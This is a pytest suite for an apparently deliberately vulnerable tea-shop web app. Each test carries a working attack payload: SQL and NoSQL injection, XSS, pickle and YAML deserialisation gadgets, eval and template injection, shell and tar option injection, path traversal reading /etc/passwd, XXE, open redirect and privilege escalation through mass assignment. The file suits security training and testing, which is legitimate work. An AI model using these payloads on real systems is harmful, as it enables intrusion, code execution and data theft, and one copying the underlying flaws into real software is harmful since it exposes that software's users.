"""The flaws are real: each test takes advantage of one."""

import base64
import io
import json
import os
import pickle
import sys
import tarfile

import pytest


def test_a_quote_in_the_address_logs_anybody_in(client):
    answer = client.post("/login", data={"email": "office@harbourtea.example' --", "password": ""})
    assert answer.status_code == 302
    assert "Ilse Brandt" in client.get("/admin/").get_data(as_text=True)


def test_a_quote_in_the_body_logs_anybody_in_too(client):
    answer = client.post("/api/login", json={"email": "' OR role = 'staff' --", "password": ""})
    assert answer.get_json()["name"] == "Back office"


def test_the_search_reads_other_tables(client):
    term = "%' UNION SELECT id, email, password, 0 FROM customer --"
    assert "ilse@mail.example" in client.get("/search", query_string={"q": term}).get_data(as_text=True)


def test_the_sort_order_is_part_of_the_statement(client):
    page = client.get("/", query_string={"sort": "(SELECT no_such_column)"})
    assert page.status_code == 500
    assert "no such column" in page.get_data(as_text=True)


def test_the_search_repeats_a_script(client):
    page = client.get("/search", query_string={"q": "<script>alert(1)</script>"})
    assert "<script>alert(1)</script>" in page.get_data(as_text=True)


def test_a_review_runs_in_every_visitors_browser(wren):
    wren.post("/tea/1/review", data={"text": "<img src=x onerror=alert(1)>"})
    assert "<img src=x onerror=alert(1)>" in wren.get("/tea/1").get_data(as_text=True)


class Surprise:
    """Runs a command where it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def test_a_basket_cookie_runs_code(client, tmp_path):
    content = base64.b64encode(pickle.dumps(Surprise(str(tmp_path / "made")))).decode()
    client.set_cookie("basket", content)
    client.get("/basket")
    assert (tmp_path / "made").is_dir()


def test_a_profile_file_runs_code(wren, tmp_path):
    text = "!!python/object/apply:os.mkdir ['%s']" % (tmp_path / "made")
    wren.post("/profile/import", data={"profile": (io.BytesIO(text.encode()), "profile.yml")})
    assert (tmp_path / "made").is_dir()


def test_a_formula_runs_code(client):
    answer = client.post("/orders/quote", data={"formula": "__import__('os').getpid()"})
    assert answer.get_json() == {"price": os.getpid()}


def test_a_newsletter_is_a_template(office):
    answer = office.post("/admin/newsletter", data={"body": "{{ 7 * 191 }}"})
    assert "1337" in answer.get_data(as_text=True)


def test_a_forgotten_password_is_told_to_whoever_asks(client):
    client.post("/forgotten", data={"email": "office@harbourtea.example"})
    content = client.get_cookie("session").value.split(".")[0]
    token = json.loads(base64.urlsafe_b64decode(content + "=="))["reset_token"]
    client.post("/reset/" + token, data={"password": "mine now"})
    data = {"email": "office@harbourtea.example", "password": "mine now"}
    assert client.post("/login", data=data).status_code == 302


def test_a_greeting_reads_settings(wren):
    greeting = "{profile.save.__globals__[current_app].config[SECRET_KEY]}"
    page = wren.post("/profile/greeting", data={"greeting": greeting})
    assert "lemon" in page.get_data(as_text=True)


def test_a_printer_name_runs_a_command(wren, tmp_path):
    wren.post("/orders/print", data={"printer": "x; mkdir %s/made;" % tmp_path})
    assert (tmp_path / "made").is_dir()


def test_a_folder_name_is_an_option_of_tar(office, app, tmp_path):
    (tmp_path / "list").write_text("/etc/hostname")
    office.post("/admin/backup", data={"folder": "--files-from=%s" % (tmp_path / "list")})
    with tarfile.open(os.path.join(app.config["UPLOADS"], "backup.tar")) as archive:
        assert archive.getnames() == ["etc/hostname"]


@pytest.mark.skipif(sys.version_info >= (3, 14), reason="Python refuses such members by itself")
def test_a_backup_writes_outside_its_folder(office, tmp_path):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../outside"), io.BytesIO(b""))
    stream.seek(0)
    office.post("/admin/restore", data={"backup": (stream, "backup.tar")})
    assert (tmp_path / "outside").exists()


def test_an_invoice_may_be_any_file(wren):
    assert "root:" in wren.get("/orders/invoice?file=/etc/passwd").get_data(as_text=True)


def test_a_picture_may_be_any_file(client):
    path = "/profile/picture/" + "../" * 20 + "etc/passwd"
    assert b"root:" in client.get(path).data


def test_a_login_leads_to_another_site(client):
    data = {"email": "wren@mail.example", "password": "marmalade"}
    answer = client.post("/login?next=https://elsewhere.example/", data=data)
    assert answer.headers["Location"] == "https://elsewhere.example/"


def test_a_price_list_reads_files(client, tmp_path):
    (tmp_path / "secret.txt").write_text("the owner's diary")
    body = '<!DOCTYPE p [<!ENTITY e SYSTEM "%s">]><p><price tea="x">&e;</price></p>'
    answer = client.post("/suppliers/prices", data=body % (tmp_path / "secret.txt"))
    assert answer.get_json() == {"x": "the owner's diary"}


def test_a_pin_may_be_a_query(client, monkeypatch):
    from shop import loyalty

    seen = []

    class Cards:
        def find_one(self, query):
            seen.append(query)
            return {"points": 1}

    monkeypatch.setattr(loyalty, "cards", Cards())
    client.post("/loyalty/points", json={"number": "7", "pin": {"$ne": ""}})
    assert seen == [{"number": "7", "pin": {"$ne": ""}}]


def test_a_customer_sees_the_orders_of_another(wren):
    assert "9 Mill Row" in wren.get("/orders/2").get_data(as_text=True)


def test_a_customer_becomes_staff(wren):
    wren.post("/profile/edit", data={"role": "staff"})
    assert wren.get("/admin/").status_code == 200


def test_a_customer_becomes_staff_through_the_app(wren):
    assert wren.patch("/api/me", json={"role": "staff"}).get_json()["role"] == "staff"
    assert wren.get("/admin/").status_code == 200


def test_everybody_gets_the_address_list(client):
    assert b"Ilse Brandt" in client.get("/admin/export").data
